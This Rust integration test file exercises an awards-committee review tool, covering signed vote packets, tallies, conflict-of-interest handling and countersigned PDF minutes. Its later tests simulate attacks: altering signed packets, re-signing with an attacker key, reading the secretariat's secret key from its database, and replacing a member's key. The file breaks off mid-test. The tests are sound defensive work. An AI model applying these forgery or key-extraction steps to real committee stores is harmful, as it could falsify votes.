//! Members review offline on their own laptops and the secretariat merges their signed packets:
//! three member stores and one secretariat store, through the command line.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{json, ok, pdftotext, refused, tool};
use serde_json::Value;
use std::path::{Path, PathBuf};

const HEADER: &str =
    "STT,Họ và tên,Loại,Tiêu chuẩn,Chức vụ,Đơn vị,Số định danh,Hình thức khen thưởng";

/// The list the secretariat imports: (name, position, unit).
const PEOPLE: [(&str, &str, &str); 4] = [
    ("Nguyễn Văn Đức", "Chuyên viên", "Sở Tư pháp"),
    ("Trần Thị Hồng Gấm", "Phó Trưởng phòng", "Sở Y tế"),
    ("Lê Minh Khôi", "Chuyên viên", "Sở Nội vụ"),
    (
        "Phạm Ngọc Ánh",
        "Kế toán",
        "Ủy ban nhân dân Phường Bến Thành",
    ),
];

fn write_list(path: &Path, people: &[(&str, &str, &str)]) {
    let mut text = format!("{HEADER}\n");
    for (i, (name, position, unit)) in people.iter().enumerate() {
        text.push_str(&format!(
            "{},{name},Cá nhân,2.4,{position},{unit},{:012},Bằng khen\n",
            i + 1,
            79_000_000_100 + i
        ));
    }
    std::fs::write(path, text).unwrap();
}

struct Committee {
    dir: tempfile::TempDir,
    sec: PathBuf,
    members: Vec<PathBuf>,
    round: String,
    /// Nomination ids by the names in [`PEOPLE`].
    ids: Vec<String>,
    /// The fingerprint of the secretariat's key, as the secretary reads it to each member.
    fp: String,
}

impl Committee {
    fn file(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn s(&self, name: &str) -> String {
        self.file(name).to_str().unwrap().to_string()
    }

    /// A training certificate made on the secretariat's laptop: `<who>.p12` (password in
    /// `XETKHEN_TEST_PASSWORD`) and its authority `<who>.pem`, returned in that order; the
    /// signer's own certificate is written to `<who>-chung-thu.pem`.
    fn training_certificate(&self, who: &str) -> (String, String) {
        let (p12, pem) = (self.s(&format!("{who}.p12")), self.s(&format!("{who}.pem")));
        let cert = self.s(&format!("{who}-chung-thu.pem"));
        ok(
            &self.sec,
            &[
                "cert",
                "training",
                "--name",
                who,
                "--out",
                &p12,
                "--ca-out",
                &pem,
                "--cert-out",
                &cert,
                "--password-env",
                "XETKHEN_TEST_PASSWORD",
            ],
        );
        (p12, pem)
    }

    /// Member `i` (0-based) votes on nomination `n`.
    fn vote(&self, i: usize, n: usize, vote: &str) {
        ok(
            &self.members[i],
            &["review", &self.ids[n], "--vote", vote, "--score", "8"],
        );
    }

    /// Member `i` writes their packet to `name`.
    fn packet(&self, i: usize, name: &str) -> String {
        ok(
            &self.members[i],
            &[
                "packet",
                "export",
                "--round",
                &self.round,
                "--out",
                &self.s(name),
            ],
        );
        self.s(name)
    }

    fn tally(&self, db: &Path) -> Value {
        json(db, &["tally", "--round", &self.round, "--json"])
    }
}

/// Ballots of a nomination in the tally, by member name.
fn ballots(tally: &Value, id: &str) -> Vec<(String, String)> {
    let row = tally["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["nomination_id"] == id)
        .unwrap_or_else(|| panic!("no {id} in the tally"));
    let mut b: Vec<(String, String)> = row["ballots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| {
            (
                b["member"].as_str().unwrap().to_string(),
                b["ballot"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    b.sort();
    b
}

fn decision(tally: &Value, id: &str) -> String {
    tally["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["nomination_id"] == id)
        .unwrap()["count"]["decision"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The secretariat imports the list and hands the round to three registered members.
fn committee() -> Committee {
    let dir = tempfile::tempdir().unwrap();
    let sec = dir.path().join("ban-thu-ky.db");
    let list = dir.path().join("danh-sach.csv");
    write_list(&list, &PEOPLE);
    ok(&sec, &["import", list.to_str().unwrap()]);
    ok(
        &sec,
        &[
            "reviewer",
            "set",
            "--name",
            "Võ Thị Thư",
            "--position",
            "Thư ký Hội đồng",
            "--role",
            "secretary",
        ],
    );
    let round = json(&sec, &["round", "list", "--json"])[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let rows = json(&sec, &["list", "--round", &round, "--json"]);
    let ids = PEOPLE
        .iter()
        .map(|(name, _, _)| {
            rows.as_array()
                .unwrap()
                .iter()
                .find(|r| r["name"] == *name)
                .unwrap()["id"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    let card = dir.path().join("the-thu-ky.json");
    let fp = json(
        &sec,
        &[
            "reviewer",
            "card",
            "--out",
            card.to_str().unwrap(),
            "--json",
        ],
    )["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    let names = ["Đặng Quốc Bảo", "Huỳnh Thị Mai", "Bùi Đức Thắng"];
    let mut members = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let db = dir.path().join(format!("thanh-vien-{}.db", i + 1));
        let card = dir.path().join(format!("the-{}.json", i + 1));
        ok(
            &db,
            &[
                "reviewer",
                "set",
                "--name",
                name,
                "--position",
                "Ủy viên Hội đồng",
            ],
        );
        ok(&db, &["reviewer", "card", "--out", card.to_str().unwrap()]);
        ok(&sec, &["reviewer", "register", card.to_str().unwrap()]);
        members.push(db);
    }
    let package = dir.path().join("dot-xet.xkdx");
    ok(
        &sec,
        &[
            "round",
            "export",
            "--round",
            &round,
            "--out",
            package.to_str().unwrap(),
        ],
    );
    for db in &members {
        let r = json(
            db,
            &[
                "round",
                "import",
                package.to_str().unwrap(),
                "--trust-secretariat",
                &fp,
                "--json",
            ],
        );
        assert_eq!(r["secretariat_fingerprint"], fp.as_str(), "{r}");
        assert_eq!(r["nominations"]["imported"], 4, "{r}");
        assert_eq!(r["members"], 4, "{r}");
    }
    Committee {
        dir,
        sec,
        members,
        round,
        ids,
        fp,
    }
}

#[test]
fn three_members_and_a_secretariat_reach_one_tally_whatever_the_order() {
    let c = committee();
    // Committee of four (the secretary counts): approval needs more than two votes in favour.
    for i in 0..3 {
        c.vote(i, 0, "approve");
        c.vote(i, 1, "reject");
    }
    c.vote(0, 2, "approve");
    c.vote(1, 2, "reject");
    c.vote(2, 3, "abstain");
    let packets: Vec<String> = (0..3)
        .map(|i| c.packet(i, &format!("goi-{}.xkgp", i + 1)))
        .collect();

    let other = c.file("ban-thu-ky-2.db");
    std::fs::copy(&c.sec, &other).unwrap();

    let mut args = vec!["packet", "import"];
    args.extend(packets.iter().map(String::as_str));
    args.push("--json");
    let r = json(&c.sec, &args);
    assert_eq!(
        (r["accepted"].as_u64(), r["rejected"].as_u64()),
        (Some(3), Some(0)),
        "{r}"
    );
    let tally = c.tally(&c.sec);
    assert_eq!(decision(&tally, &c.ids[0]), "approved");
    assert_eq!(decision(&tally, &c.ids[1]), "not-approved");
    assert_eq!(decision(&tally, &c.ids[2]), "pending");
    assert_eq!(decision(&tally, &c.ids[3]), "pending");
    assert_eq!(tally["totals"]["approved"], 1);
    let row0 = &tally["rows"].as_array().unwrap()[0];
    assert!(row0["count"]["approve"].is_u64());
    assert_eq!(tally["packets"].as_array().unwrap().len(), 3);

    // The approved list feeds the export: only what the committee passed goes to UBND.
    let csv = c.s("da-thong-qua.csv");
    ok(
        &c.sec,
        &[
            "export",
            "--round",
            &c.round,
            "--award",
            "bang-khen",
            "--filter",
            "approved",
            "--out",
            &csv,
        ],
    );
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.contains(PEOPLE[0].0), "{text}");
    for (name, _, _) in &PEOPLE[1..] {
        assert!(!text.contains(name), "{name} was not approved: {text}");
    }

    // The same packets again: nothing changes.
    let again = json(&c.sec, &args);
    assert_eq!(again["unchanged"], 3, "{again}");
    let audit_before = ok(&c.sec, &["audit", "verify", "--json"]);
    assert_eq!(c.tally(&c.sec)["rows"], tally["rows"]);

    // Another secretariat store takes them in the reverse order, one of them twice.
    for p in packets.iter().rev().chain(std::iter::once(&packets[1])) {
        ok(&other, &["packet", "import", p]);
    }
    assert_eq!(c.tally(&other)["rows"], tally["rows"]);
    assert_eq!(ok(&c.sec, &["audit", "verify", "--json"]), audit_before);
}

#[test]
fn a_packet_altered_after_signing_is_rejected_whole_and_the_store_is_unchanged() {
    let c = committee();
    c.vote(0, 0, "reject");
    let p = c.packet(0, "goi.xkgp");
    let text = std::fs::read_to_string(&p).unwrap();
    // The member voted against; the forger turns it into a vote in favour.
    let forged = text.replace(
        "\\\"vote\\\":\\\"reject\\\"",
        "\\\"vote\\\":\\\"approve\\\"",
    );
    assert_ne!(forged, text, "the vote is in the signed body");
    let f = c.s("goi-sua.xkgp");
    std::fs::write(&f, forged).unwrap();
    let before = c.tally(&c.sec);
    let audit = ok(&c.sec, &["audit", "verify", "--json"]);
    let (err, out) = refused(&c.sec, &["packet", "import", &f]);
    assert!(out.contains("Chữ ký của gói phiếu không đúng"), "{out}");
    assert!(err.contains("bị từ chối"), "{err}");
    assert_eq!(c.tally(&c.sec), before);
    assert_eq!(ok(&c.sec, &["audit", "verify", "--json"]), audit);

    // A packet cut short, and a file that is no packet at all.
    let cut = c.s("goi-cut.xkgp");
    std::fs::write(&cut, &text.as_bytes()[..text.len() / 2]).unwrap();
    let (_, out) = refused(&c.sec, &["packet", "import", &cut]);
    assert!(out.contains("Không phải tệp gói phiếu"), "{out}");
    // The genuine packet is still accepted afterwards.
    ok(&c.sec, &["packet", "import", &p]);
    assert_eq!(
        ballots(&c.tally(&c.sec), &c.ids[0])
            .iter()
            .filter(|(_, b)| b == "reject")
            .count(),
        1
    );
}

#[test]
fn a_packet_from_someone_not_registered_is_rejected() {
    let c = committee();
    let stranger = c.file("nguoi-la.db");
    ok(
        &stranger,
        &[
            "reviewer",
            "set",
            "--name",
            "Người Lạ",
            "--position",
            "Không rõ",
        ],
    );
    ok(
        &stranger,
        &[
            "round",
            "import",
            &c.s("dot-xet.xkdx"),
            "--trust-secretariat",
            &c.fp,
        ],
    );
    ok(&stranger, &["review", &c.ids[0], "--vote", "approve"]);
    let p = c.s("nguoi-la.xkgp");
    ok(
        &stranger,
        &["packet", "export", "--round", &c.round, "--out", &p],
    );
    let (_, out) = refused(&c.sec, &["packet", "import", &p]);
    assert!(out.contains("không phải thành viên đã đăng ký"), "{out}");
}

#[test]
fn a_cloned_laptop_is_reported_and_its_disputed_votes_wait_for_a_newer_packet() {
    let c = committee();
    c.vote(0, 0, "approve");
    let p1 = c.packet(0, "goi-1.xkgp");
    ok(&c.sec, &["packet", "import", &p1]);
    // The member's store is copied to a second laptop; each copy goes on by itself.
    let clone = c.file("thanh-vien-1-ban-sao.db");
    std::fs::copy(&c.members[0], &clone).unwrap();
    c.vote(0, 0, "reject");
    let a = c.packet(0, "goi-2a.xkgp");
    ok(&clone, &["review", &c.ids[0], "--vote", "abstain"]);
    let b = c.s("goi-2b.xkgp");
    ok(
        &clone,
        &["packet", "export", "--round", &c.round, "--out", &b],
    );
    ok(&c.sec, &["packet", "import", &a]);
    let r = json(&c.sec, &["packet", "import", &b, "--json"]);
    let notices = r["files"][0]["notices"].as_array().unwrap();
    assert!(
        notices.iter().any(|n| n["kind"] == "duplicate_sequence"),
        "{r}"
    );
    let t = c.tally(&c.sec);
    assert_eq!(t["disputed"].as_array().unwrap().len(), 1, "{t}");
    let member = "Đặng Quốc Bảo".to_string();
    assert!(
        ballots(&t, &c.ids[0]).contains(&(member.clone(), "approve".into())),
        "back to packet 1 while packet 2 is disputed"
    );
    // The member's next packet from their own laptop settles it.
    let p3 = c.packet(0, "goi-3.xkgp");
    ok(&c.sec, &["packet", "import", &p3]);
    assert!(ballots(&c.tally(&c.sec), &c.ids[0]).contains(&(member, "reject".into())));
    ok(&c.sec, &["audit", "verify"]);
}

#[test]
fn a_vote_on_an_outdated_version_is_held_apart_and_the_member_sees_what_changed() {
    let c = committee();
    c.vote(1, 2, "approve");
    // The secretariat corrects the nominee's position after the round went out.
    let mut people = PEOPLE;
    people[2].1 = "Trưởng phòng";
    let list = c.file("danh-sach-sua.csv");
    write_list(&list, &people);
    ok(
        &c.sec,
        &["import", list.to_str().unwrap(), "--round", &c.round],
    );
    let p = c.packet(1, "goi.xkgp");
    let r = json(&c.sec, &["packet", "import", &p, "--json"]);
    let notices = r["files"][0]["notices"].as_array().unwrap();
    assert!(notices.iter().any(|n| n["kind"] == "outdated"), "{r}");
    let member = "Huỳnh Thị Mai".to_string();
    assert!(ballots(&c.tally(&c.sec), &c.ids[2]).contains(&(member, "outdated".into())));

    // A newer round package shows the member what changed since they scored.
    let package = c.s("dot-xet-2.xkdx");
    ok(
        &c.sec,
        &["round", "export", "--round", &c.round, "--out", &package],
    );
    let r = json(&c.members[1], &["round", "import", &package, "--json"]);
    assert_eq!(r["nominations"]["updated"], 1, "{r}");
    let changed = r["changed_since_review"].as_array().unwrap();
    assert_eq!(changed.len(), 1, "{r}");
    assert_eq!(changed[0]["id"], c.ids[2].as_str());
    let changes = changed[0]["changes"].as_array().unwrap();
    assert!(
        changes
            .iter()
            .any(|c| c["field"] == "position" && c["after"]["value"] == "Trưởng phòng"),
        "{changed:?}"
    );
}

#[test]
fn a_vote_by_a_member_tied_to_the_nominee_is_reported_and_not_counted() {
    let c = committee();
    c.vote(2, 1, "approve");
    ok(&c.members[2], &["conflict", "add", "Sở Y tế"]);
    let p = c.packet(2, "goi.xkgp");
    let r = json(&c.sec, &["packet", "import", &p, "--json"]);
    let notices = r["files"][0]["notices"].as_array().unwrap();
    assert!(
        notices.iter().any(|n| n["kind"] == "conflict_of_interest"),
        "{r}"
    );
    let member = "Bùi Đức Thắng".to_string();
    let t = c.tally(&c.sec);
    assert!(ballots(&t, &c.ids[1]).contains(&(member, "conflicted".into())));
    let row = t["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["nomination_id"] == c.ids[1].as_str())
        .unwrap();
    assert_eq!(row["count"]["approve"], 0);
    assert_eq!(row["count"]["conflicted"], 1);
}

#[test]
fn a_round_package_altered_after_signing_is_refused() {
    let c = committee();
    let text = std::fs::read_to_string(c.file("dot-xet.xkdx")).unwrap();
    let forged = text.replace("Sở Tư pháp", "Sở Tài chính");
    assert_ne!(forged, text);
    let f = c.s("dot-xet-sua.xkdx");
    std::fs::write(&f, forged).unwrap();
    let fresh = c.file("may-moi.db");
    let (err, _) = refused(&fresh, &["round", "import", &f]);
    assert!(err.contains("chữ ký của gói không đúng"), "{err}");
    assert!(json(&fresh, &["round", "list", "--json"])
        .as_array()
        .unwrap()
        .is_empty());
}

#[test]
fn the_minutes_list_the_count_and_every_packet_and_carry_both_signatures() {
    let c = committee();
    for i in 0..3 {
        c.vote(i, 0, "approve");
    }
    let packets: Vec<String> = (0..3)
        .map(|i| c.packet(i, &format!("goi-{}.xkgp", i + 1)))
        .collect();
    for p in &packets {
        // The member's vote summary goes beside each packet.
        assert!(Path::new(&p.replace(".xkgp", ".pdf")).exists());
        ok(&c.sec, &["packet", "import", p]);
    }
    // One training authority for both signers, as the committee's own certificates share one.
    let (p12, pem) = c.training_certificate("thu-ky");
    let minutes = c.s("bien-ban.pdf");
    let r = json(
        &c.sec,
        &[
            "tally",
            "--round",
            &c.round,
            "--minutes",
            &minutes,
            "--number",
            "Số: 05/BB-HĐTĐKT",
            "--sign-p12",
            &p12,
            "--password-env",
            "XETKHEN_TEST_PASSWORD",
            "--chair-p12",
            &p12,
            "--chair-password-env",
            "XETKHEN_TEST_PASSWORD",
            "--json",
        ],
    );
    assert_eq!(r["signatures"], 2, "{r}");
    assert_eq!(r["packets"], 3, "{r}");
    let report = json(&c.sec, &["verify", &minutes, "--trust", &pem, "--json"]);
    assert_eq!(
        report["signatures"].as_array().unwrap().len(),
        2,
        "{report}"
    );
    if let Some(text) = pdftotext(Path::new(&minutes)) {
        assert!(text.contains("BIÊN BẢN KIỂM PHIẾU"), "{text}");
        assert!(text.contains(PEOPLE[0].0));
        for name in ["Đặng Quốc Bảo", "Huỳnh Thị Mai", "Bùi Đức Thắng"] {
            assert!(
                text.contains(name),
                "{name} is listed among the packets: {text}"
            );
        }
    }
}

#[test]
fn the_chair_countersigns_on_their_own_laptop_the_minutes_the_secretary_signed() {
    let c = committee();
    let (p12, pem) = c.training_certificate("hoi-dong");
    let minutes = c.s("bien-ban.pdf");
    let r = json(
        &c.sec,
        &[
            "tally",
            "--round",
            &c.round,
            "--minutes",
            &minutes,
            "--number",
            "05/BB-HĐTĐKT",
            "--sign-p12",
            &p12,
            "--password-env",
            "XETKHEN_TEST_PASSWORD",
            "--json",
        ],
    );
    assert_eq!(r["signatures"], 1, "{r}");
    let before = std::fs::read(&minutes).unwrap();

    // On the chair's laptop.
    let chair = c.file("chu-tich.db");
    let both = c.s("bien-ban-du-chu-ky.pdf");
    let countersign = |file: &str, out: &str| -> Vec<String> {
        [
            "countersign",
            file,
            "--out",
            out,
            "--chair-p12",
            &p12,
            "--chair-password-env",
            "XETKHEN_TEST_PASSWORD",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect()
    };
    let args = countersign(&minutes, &both);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let said = ok(&chair, &args);
    assert!(said.contains("2 chữ ký số"), "{said}");
    assert_eq!(
        std::fs::read(&minutes).unwrap(),
        before,
        "the secretary's file is left as it was"
    );
    let report = json(&chair, &["verify", &both, "--trust", &pem, "--json"]);
    assert_eq!(report["valid"], true, "{report}");
    assert_eq!(
        report["signatures"].as_array().unwrap().len(),
        2,
        "{report}"
    );
    if let Some(text) = tool("pdfsig", &[], Path::new(&both)) {
        assert_eq!(text.matches("Signature is Valid").count(), 2, "{text}");
    }

    // Refused, with nothing written: minutes already countersigned, minutes nobody signed, and
    // minutes changed after the secretary signed.
    let again = c.s("lan-hai.pdf");
    let args = countersign(&both, &again);
    let (err, _) = refused(&chair, &args.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(err.contains("đã có 2 chữ ký"), "{err}");
    let unsigned = c.s("bien-ban-nhap.pdf");
    ok(
        &c.sec,
        &["tally", "--round", &c.round, "--minutes", &unsigned],
    );
    let args = countersign(&unsigned, &again);
    let (err, _) = refused(&chair, &args.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(err.contains("chưa có chữ ký"), "{err}");
    let mut changed = before.clone();
    changed[before.len() / 3] ^= 0x20;
    let forged = c.s("bien-ban-sua.pdf");
    std::fs::write(&forged, &changed).unwrap();
    let args = countersign(&forged, &again);
    let (err, _) = refused(&chair, &args.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(err.contains("không còn nguyên vẹn"), "{err}");
    assert!(!Path::new(&again).exists());
}

/// Issue 14: `countersign` checked the secretary's signature with no trust anchor, so minutes
/// signed by anyone (here a training certificate the chair never trusted) were countersigned.
#[test]
fn the_chair_countersigns_minutes_signed_by_a_certificate_nobody_trusted() {
    let c = committee();
    let (forger_p12, forger_pem) = c.training_certificate("ke-gia-mao");
    let (chair_p12, _) = c.training_certificate("chu-tich");
    let minutes = c.s("bien-ban-gia.pdf");
    ok(
        &c.sec,
        &[
            "tally",
            "--round",
            &c.round,
            "--minutes",
            &minutes,
            "--sign-p12",
            &forger_p12,
            "--password-env",
            "XETKHEN_TEST_PASSWORD",
        ],
    );
    let chair = c.file("chu-tich.db");
    let out = c.s("bien-ban-gia-du-chu-ky.pdf");
    let mut args = vec![
        "countersign",
        &minutes,
        "--out",
        &out,
        "--chair-p12",
        &chair_p12,
        "--chair-password-env",
        "XETKHEN_TEST_PASSWORD",
    ];
    let (err, _) = refused(&chair, &args);
    assert!(err.contains("không dẫn tới chứng thư gốc tin cậy"), "{err}");
    assert!(!Path::new(&out).exists());
    // The chair who knows the secretary's authority names it, and signs.
    args.extend(["--trust", &forger_pem]);
    let said = ok(&chair, &args);
    assert!(said.contains("2 chữ ký số"), "{said}");
}

fn args(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// Issue 14: the chair countersigns minutes whose first signature chains to an anchor they give,
/// or was made with the secretary's certificate registered on the chair's laptop. Minutes signed
/// by another certificate are refused all the same; the registration is audited.
#[test]
fn the_chair_countersigns_minutes_signed_with_the_registered_secretary_certificate_only() {
    let c = committee();
    let (secretary_p12, secretary_ca) = c.training_certificate("thu-ky");
    let (other_p12, _) = c.training_certificate("nguoi-khac");
    let (chair_p12, chair_ca) = c.training_certificate("chu-tich");
    let minutes = |name: &str, p12: &str| {
        let out = c.s(name);
        ok(
            &c.sec,
            &[
                "tally",
                "--round",
                &c.round,
                "--minutes",
                &out,
                "--sign-p12",
                p12,
                "--password-env",
                "XETKHEN_TEST_PASSWORD",
            ],
        );
        out
    };
    let genuine = minutes("bien-ban.pdf", &secretary_p12);
    let other = minutes("bien-ban-nguoi-khac.pdf", &other_p12);
    let chair = c.file("chu-tich.db");
    let countersign = |file: &str, out: &str| {
        vec![
            "countersign".to_string(),
            file.to_string(),
            "--out".into(),
            out.to_string(),
            "--chair-p12".into(),
            chair_p12.clone(),
            "--chair-password-env".into(),
            "XETKHEN_TEST_PASSWORD".into(),
        ]
    };
    let out = c.s("bien-ban-du-chu-ky.pdf");
    let genuine_args = countersign(&genuine, &out);
    let (err, _) = refused(&chair, &args(&genuine_args));
    assert!(err.contains("không dẫn tới chứng thư gốc tin cậy"), "{err}");

    // An authority's certificate is not the secretary's signing certificate.
    let (err, _) = refused(&chair, &["secretariat", "certificate", &secretary_ca]);
    assert!(err.contains("tổ chức cấp chứng thư"), "{err}");
    let said = ok(
        &chair,
        &["secretariat", "certificate", &c.s("thu-ky-chung-thu.pem")],
    );
    assert!(said.contains("thu-ky (CHỨNG THƯ TẬP HUẤN)"), "{said}");
    let shown = json(&chair, &["secretariat", "show", "--json"]);
    let sha = shown["secretary_certificate"]["sha256"].as_str().unwrap();
    let groups: Vec<&str> = sha.split(' ').collect();
    assert!(
        groups.len() == 16
            && groups
                .iter()
                .all(|g| g.len() == 4 && g.chars().all(|ch| ch.is_ascii_hexdigit())),
        "{shown}"
    );
    assert!(said.contains(sha), "{said}");
    assert!(
        ok(&chair, &["secretariat", "show"]).contains(sha),
        "the fingerprint is shown"
    );

    let said = ok(&chair, &args(&genuine_args));
    assert!(said.contains("2 chữ ký số"), "{said}");
    let verified = ok(
        &c.sec,
        &[
            "verify",
            &out,
            "--trust",
            &secretary_ca,
            "--trust",
            &chair_ca,
        ],
    );
    assert!(verified.contains("Chữ ký hợp lệ"), "{verified}");

    // Another certificate's minutes: refused, though a certificate is registered.
    let forged_out = c.s("bien-ban-khac-du-chu-ky.pdf");
    let (err, _) = refused(&chair, &args(&countersign(&other, &forged_out)));
    assert!(
        err.contains("không phải chữ ký bằng chứng thư của thư ký đã đăng ký"),
        "{err}"
    );
    assert!(!Path::new(&forged_out).exists());

    // Another certificate replaces the registered one only as an audited act.
    let (err, _) = refused(
        &chair,
        &[
            "secretariat",
            "certificate",
            &c.s("nguoi-khac-chung-thu.pem"),
        ],
    );
    assert!(err.contains("--replace"), "{err}");
    ok(
        &chair,
        &[
            "secretariat",
            "certificate",
            &c.s("nguoi-khac-chung-thu.pem"),
            "--replace",
        ],
    );
    let conn = rusqlite::Connection::open(&chair).unwrap();
    let actions: Vec<String> = conn
        .prepare("SELECT action FROM audit_log WHERE entity = 'secretary_certificate' ORDER BY seq")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        actions,
        [
            "secretary_certificate.register",
            "secretary_certificate.replace"
        ]
    );
    drop(conn);
    ok(&chair, &["audit", "verify"]);
    // The secretary's minutes no longer pass on the chair's laptop without an anchor.
    let again = c.s("bien-ban-lan-hai.pdf");
    let (err, _) = refused(&chair, &args(&countersign(&genuine, &again)));
    assert!(err.contains("không dẫn tới chứng thư gốc tin cậy"), "{err}");
}

/// `verify` names the anchor a signature chains to, and a training CA counts only when given.
#[test]
fn verify_names_the_anchor_and_trusts_a_training_ca_only_when_given() {
    let c = committee();
    let (p12, pem) = c.training_certificate("thu-ky");
    let minutes = c.s("bien-ban.pdf");
    ok(
        &c.sec,
        &[
            "tally",
            "--round",
            &c.round,
            "--minutes",
            &minutes,
            "--sign-p12",
            &p12,
            "--password-env",
            "XETKHEN_TEST_PASSWORD",
        ],
    );
    let (err, out) = refused(&c.sec, &["verify", &minutes]);
    assert!(err.contains("không dẫn tới chứng thư gốc tin cậy"), "{err}");
    assert!(out.contains("chứng thư tin cậy: KHÔNG"), "{out}");
    let out = ok(&c.sec, &["verify", &minutes, "--trust", &pem]);
    assert!(
        out.contains("Chứng thư gốc: Xét Khen - CA tập huấn (CHỨNG THƯ TẬP HUẤN) (do người kiểm tra chỉ định)"),
        "{out}"
    );
    assert!(out.contains("Thời điểm người ký khai: D:"), "{out}");
}

#[test]
fn a_vote_summary_swapped_beside_its_packet_is_reported() {
    let c = committee();
    c.vote(0, 0, "approve");
    c.vote(1, 0, "reject");
    let p1 = c.packet(0, "goi-1.xkgp");
    let p2 = c.packet(1, "goi-2.xkgp");
    if let Some(text) = pdftotext(Path::new(&p1.replace(".xkgp", ".pdf"))) {
        assert!(
            text.contains("Đặng Quốc Bảo") && text.contains("Đồng ý"),
            "{text}"
        );
    }
    // The summary of member 2 is put beside member 1's packet.
    std::fs::copy(p2.replace(".xkgp", ".pdf"), p1.replace(".xkgp", ".pdf")).unwrap();
    let r = json(&c.sec, &["packet", "import", &p1, "--json"]);
    assert_eq!(
        r["accepted"], 1,
        "the votes themselves are signed and sound: {r}"
    );
    assert!(
        r["files"][0]["notices"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["kind"] == "summary_mismatch"),
        "{r}"
    );
}

#[test]
fn evidence_the_secretariat_attached_travels_with_the_round_and_opens_on_a_members_laptop() {
    let c = committee();
    let pdf = c.file("bao-cao.pdf");
    std::fs::write(
        &pdf,
        b"%PDF-1.4\n% Bao cao chuyen doi so cua So Tu phap\n%%EOF\n",
    )
    .unwrap();
    // The secretary attaches the unit's report while reviewing the nomination.
    ok(
        &c.sec,
        &[
            "review",
            &c.ids[0],
            "--attach",
            pdf.to_str().unwrap(),
            "--note",
            "Báo cáo của đơn vị",
        ],
    );
    let package = c.s("dot-xet-co-tep.xkdx");
    let r = json(
        &c.sec,
        &[
            "round", "export", "--round", &c.round, "--out", &package, "--json",
        ],
    );
    assert_eq!(r["files"], 1, "{r}");
    let r = json(&c.members[0], &["round", "import", &package, "--json"]);
    assert_eq!(r["files"], 1, "{r}");
    let shown = json(&c.members[0], &["show", &c.ids[0], "--json"]);
    let files = shown["shared_evidence"].as_array().unwrap();
    assert_eq!(files.len(), 1, "{shown}");
    assert_eq!(files[0]["file_name"], "bao-cao.pdf");
    // The same package again brings nothing new, and the store still verifies.
    let r = json(&c.members[0], &["round", "import", &package, "--json"]);
    assert_eq!(r["files"], 0, "{r}");
    ok(&c.members[0], &["audit", "verify"]);

    // A package whose file was swapped after signing is refused: the signature covers the files.
    let text = std::fs::read_to_string(&package).unwrap();
    let forged = text.replacen(
        "\\\"file_name\\\":\\\"bao-cao.pdf",
        "\\\"file_name\\\":\\\"bao-cao-2.pdf",
        1,
    );
    assert_ne!(forged, text);
    let f = c.s("dot-xet-sua-tep.xkdx");
    std::fs::write(&f, forged).unwrap();
    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
    assert!(err.contains("chữ ký của gói không đúng"), "{err}");
}

// Attacks on the committee's trust, each building its attack file the way an attacker would:
// from a genuine file, re-signed with a key of their own or, where the attack needs the
// secretariat's signature (a stolen key), with the secretariat's key read from its store.

/// A round package file: its body as JSON, and the file re-signed by `key` after `change`.
fn resign(
    package: &Path,
    key: &xetkhen_core::MemberKey,
    change: impl FnOnce(&mut Value),
) -> String {
    let file: Value = serde_json::from_slice(&std::fs::read(package).unwrap()).unwrap();
    let mut body: Value = serde_json::from_str(file["body"].as_str().unwrap()).unwrap();
    change(&mut body);
    let text = serde_json::to_string(&body).unwrap();
    serde_json::json!({
        "format": file["format"],
        "signature": key.sign_hex(text.as_bytes()),
        "body": text,
    })
    .to_string()
}

/// The secretariat's own secret key, read from its (unencrypted test) store.
fn secretariat_key(c: &Committee) -> xetkhen_core::MemberKey {
    let conn = rusqlite::Connection::open(&c.sec).unwrap();
    let secret: Vec<u8> = conn
        .query_row(
            "SELECT k.secret_key FROM member_key k JOIN reviewers r ON r.id = k.reviewer_id WHERE r.is_self = 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    xetkhen_core::MemberKey::from_secret(&secret.try_into().unwrap())
}

/// The public key a store holds for a member, by name.
fn known_key(db: &Path, name: &str) -> Option<String> {
    use rusqlite::OptionalExtension;
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.query_row(
        "SELECT public_key FROM reviewers WHERE name = ?1",
        [name],
        |r| r.get::<_, Option<String>>(0),
    )
    .optional()
    .unwrap()
    .flatten()
}

#[test]
fn a_forged_round_package_signed_by_an_unregistered_key_that_adds_a_secretary_and_replaces_a_members_key_is_refused(
) {
    let c = committee();
    let attacker = xetkhen_core::MemberKey::from_secret(&[66; 32]);
    let victim = "Huỳnh Thị Mai";
    let victim_key = known_key(&c.members[0], victim).unwrap();
    let forged = resign(&c.file("dot-xet.xkdx"), &attacker, |b| {
        let members = b["members"].as_array_mut().unwrap();
        for m in members.iter_mut() {
            if m["name"] == victim {
                m["public_key"] = attacker.public_hex().into();
            }
        }
        // A "secretary" nobody registered, whose key signs the package.
        members.push(serde_json::json!({
            "format": "xetkhen-the-thanh-vien/1", "id": "ke-gia-mao", "name": "Thư Ký Giả",
            "position": "Thư ký Hội đồng", "role": "secretary", "conflicts": [],
            "public_key": attacker.public_hex(),
        }));
        b["signed_by"] = "ke-gia-mao".into();
        b["nominations"][0]["name"] = "Người Được Cài".into();
    });
    let f = c.s("dot-xet-gia.xkdx");
    std::fs::write(&f, &forged).unwrap();
